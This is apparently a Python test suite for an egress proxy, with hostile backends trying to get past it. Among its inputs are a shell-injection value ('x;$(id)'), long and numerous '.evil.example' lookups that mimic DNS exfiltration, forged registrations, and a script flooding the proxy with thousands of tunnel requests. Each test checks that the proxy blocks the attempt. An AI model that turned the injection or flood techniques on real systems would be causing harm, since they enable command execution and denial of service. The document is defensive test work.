"""What a hostile backend may try from inside its namespace: at the name server, the direct ports, the door's rendezvous."""

from __future__ import annotations

import asyncio
import os
import socket
import sys
from pathlib import Path

import pytest

from egress.door.passing import receive_packet, send_packet
from egress.doors.ticket import Ticket
from egress.listener.nameserver import MAX_HELD, MAX_NAME_KEPT, OTHER_NAMES
from observability.events import Decision, EgressEvent, Reason, Via
from tests.egress.harness import client_hello
from tests.egress.site import NONCE, OUTSIDE, PRELUDE, enter, site

pytestmark = [pytest.mark.anyio, pytest.mark.skipif(os.geteuid() != 0, reason="makes network namespaces")]

ANYTHING = {"allowed_hosts": ["*"], "direct": "allow"}
TLS = """
def tls(address, hello):
    s = dial(address, 443); s.sendall(hello)
    try: return s.recv(100)
    except ConnectionError: return b""
"""


async def test_a_query_for_what_is_no_host_name_is_never_looked_up() -> None:
    """`*` with `direct: allow` is as open as a policy gets; numbers and control characters must not reach getaddrinfo."""
    names = ["93.184.216.34", "2130706433", "0x7f.1", "127.1", "a b", "x;$(id)", "eth0%1"]
    code = f"print([lookup(name)[0] for name in {names!r}])"
    async with site({"any": ANYTHING}) as running:
        await running.start_door("any")
        assert await running.inside("any", code) == str([3] * len(names))
        event = await running.event(
            lambda event: event.via is Via.DNS and "x" in event.host and "0x7f" not in event.host
        )
        assert event.host == r"x\059\036\040id\041"


async def test_an_address_written_as_a_server_name_opens_no_address() -> None:
    hello = client_hello(None)
    named = f"{OUTSIDE}"
    code = TLS + f"print(tls('{OUTSIDE}', {hello!r}), tls('{OUTSIDE}', {client_hello('web.example')!r}))\n"
    code += f"print(lookup('{named}')[0])"
    async with site({"any": ANYTHING}) as running:
        await running.start_door("any")
        assert await running.inside("any", code) == "b'' b''\n3"
        assert not any(getattr(event, "decision", None) is Decision.ALLOW for event in running.events)


async def test_an_address_answered_to_one_backend_is_of_no_use_to_another() -> None:
    get = "GET / HTTP/1.1\\r\\nHost: web.example\\r\\nConnection: close\\r\\n\\r\\n"
    one = f"print(http(None, 80, lookup('web.example')[1][0], '{get}')[-5:])"
    two = f"print(repr(http(None, 80, '{OUTSIDE}', '{get}')))"
    rule = {"host": "db.example", "port": 5432, "protocol": "tcp"}
    both = {"allowed_hosts": ["web.example", rule], "direct": "allow"}
    async with site({"one": both, "two": both}) as running:
        await running.start_door("one", ports="80,443,5432")
        await running.start_door("two", ports="80,443,5432")
        assert await running.inside("one", one) == "hello"
        assert await running.inside("two", two) == "''"
        assert await running.inside("one", "print(lookup('db.example')[1])") == "['198.18.0.1']"
        code = (
            "s = dial('198.18.0.1', 5432); s.shutdown(1)\ntry: print(s.recv(10))\nexcept ConnectionError: print(b'')"
        )
        assert await running.inside("two", code) == "b''"
        denied = await running.event(lambda event: event.destination == f"{OUTSIDE}:80" and event.backend == "two")
        assert denied.reason is Reason.DIRECT_ATTEMPT


def registration(door: str, nonce: str) -> dict[str, object]:
    return {"role": "door", "door": door, "nonce": nonce, "generation": 9, "listeners": [], "last": True}


def register(path: Path, message: dict[str, object]) -> dict[str, object]:
    """One registration as a stranger would try it, and the answer."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as sock:
        sock.settimeout(5)
        sock.connect(str(path))
        send_packet(sock, message)
        packet = receive_packet(sock)
        return packet[0] if packet is not None else {}


async def test_a_door_is_not_replaced_without_its_nonce() -> None:
    async with site({"one": {"allowed_hosts": ["web.example"]}, "two": {}}) as running:
        await running.start_door("one")
        await running.link.expect_door(Ticket(door="two", backend="two", nonce="2" * 32))
        path = running.directory / "doors" / "doors.sock"
        for message in (
            registration("one", "2" * 32),
            registration("one", ""),
            registration("", NONCE),
            registration("two", NONCE),
            {**registration("one", NONCE), "nonce": None},
            {**registration("one", NONCE), "nonce": [NONCE]},
        ):
            assert register(path, message) == {"wait": True}
        assert (await running.inside("one", "print(http('web.example')[-5:])")) == "hello"


async def test_what_is_no_registration_harms_nobody() -> None:
    async with site({"one": {"allowed_hosts": ["web.example"]}}) as running:
        await running.start_door("one")
        path = running.directory / "doors" / "doors.sock"
        for packet in (
            b"",
            b"[]",
            b"\xff\xfe",
            b"{" * 60_000,
            b'{"door": {"a": 1}}',
            b'{"door": "one", "nonce": 1e400}',
        ):
            with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as sock:
                sock.settimeout(5)
                sock.connect(str(path))
                sock.send(packet)
        assert (await running.inside("one", "print(http('web.example')[-5:])")) == "hello"


async def test_what_is_kept_of_names_that_are_looked_up_is_bounded() -> None:
    """A name is a message: its length is cut, very many become one, and none of it leaves."""
    code = """
lookup(".".join(letter * 60 for letter in "abc") + ".evil.example")
print({lookup(f"n{number}.evil.example")[0] for number in range(400)})
"""
    async with site({"fetch": {"allowed_hosts": ["web.example"], "limits": {"dns_rate": 2000}}}) as running:
        await running.start_door("fetch")
        assert await running.inside("fetch", code) == "{3}"
        event = await running.event(lambda event: event.host.startswith("a" * 60))
        assert (event.reason, len(event.host)) == (Reason.DIRECT_ATTEMPT, MAX_NAME_KEPT + 1)
        rest = await running.event(lambda event: event.host == OTHER_NAMES)
        assert rest.count >= 400 - MAX_HELD


HORDE = """
import resource, select
limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
held = []
request = b"CONNECT db.example:5432 HTTP/1.1\\r\\nHost: db.example:5432\\r\\n\\r\\n"
for _ in range(3400):
    s = socket.socket(); s.setblocking(False); s.connect_ex(("127.0.0.1", 3128)); held.append(s)
    try: s.send(request)
    except OSError: pass
print("held", flush=True)
while not select.select([sys.stdin], [], [], 1.0)[0]:
    for s in held:
        try: s.send(request if not s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) else b"")
        except OSError: pass
"""
"""Opens very many connections, asks for a tunnel on each, and pushes on until its standard input ends."""


@pytest.mark.slow
async def test_ten_thousand_connections_of_three_hostile_backends_leave_a_fourth_its_service() -> None:
    """More than the egress has descriptors for. All is bounded, what was turned away is counted, all of it comes back."""
    opaque = {"host": "db.example", "port": 5432, "protocol": "tcp"}
    greedy = {"allowed_hosts": [opaque], "limits": {"connections": 4000, "rate": 20000}}
    hostile = [f"greedy{number}" for number in range(3)]
    backends = {**dict.fromkeys(hostile, greedy), "calm": {"allowed_hosts": ["web.example"]}}
    async with site(backends) as running:
        for name in backends:
            await running.start_door(name)
        assert running.egress is not None
        page = "print(http('web.example')[-5:])"
        assert await running.inside("calm", page) == "hello"
        pid = running.egress.pid
        base = descriptors(pid)
        horde = [running.spawn([*enter(running.doors[n]), sys.executable, "-c", PRELUDE + HORDE]) for n in hostile]
        for process in horde:
            assert process.stdout is not None
            assert await asyncio.to_thread(process.stdout.readline) == b"held\n"
        for _ in range(5):
            assert await running.inside("calm", page) == "hello"
        await running.until(lambda: descriptors(pid) > 2000)
        assert memory_mib(pid) < 250
        await running.event(
            lambda event: event.reason is Reason.LIMIT_CONNECTIONS and event.backend.startswith("greedy")
        )
        for process in horde:
            process.kill()
        await running.until(lambda: descriptors(pid) <= base + 2)
        assert await running.inside("calm", page) == "hello"
        assert running.egress.poll() is None
        assert not [e for e in running.events if isinstance(e, EgressEvent) and e.backend == "calm" and e.reason]


def descriptors(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def memory_mib(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    return int(status.partition("VmRSS:")[2].split()[0]) / 1024
